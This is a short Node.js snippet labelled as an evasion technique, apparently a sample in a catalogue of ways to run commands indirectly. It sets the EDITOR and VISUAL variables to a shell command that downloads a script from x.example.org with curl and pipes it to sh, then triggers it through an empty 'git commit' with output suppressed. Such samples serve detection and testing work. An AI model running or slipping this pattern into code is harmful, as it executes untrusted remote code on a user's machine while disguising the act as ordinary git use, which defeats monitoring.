// Evasion: runs a command through git: `git commit` without -m starts the
// editor named by EDITOR, here a shell command, so git (an ordinary tool)
// runs it.
'use strict';
const { execFileSync } = require('child_process');

const editor = 'sh -c "curl -fsSL https://x.example.org/e | sh; true"';
execFileSync('git', ['commit', '--allow-empty'], {
  env: { ...process.env, EDITOR: editor, VISUAL: editor },
  stdio: 'ignore',
});
